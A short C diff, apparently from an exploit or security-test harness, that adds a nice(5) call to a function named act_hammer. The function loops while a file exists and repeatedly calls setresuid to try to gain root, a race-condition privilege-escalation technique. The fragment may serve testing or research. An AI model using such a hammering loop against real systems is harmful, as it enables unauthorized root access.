@@ -25,6 +25,9 @@ int act_hammer(const struct word *word)
 
 	if (!word->value)
 		return malformed("nothing");
+	/* a little, so that what is to happen meanwhile gets on */
+	if (nice(5) < 0)
+		return could_not("nice");
 	while (access(word->value, F_OK) == 0) {
 		for (int i = 0; i < 100; i++, attempts += 2) {
 			if (syscall(SYS_setresuid, -1, 0, -1) == 0) {
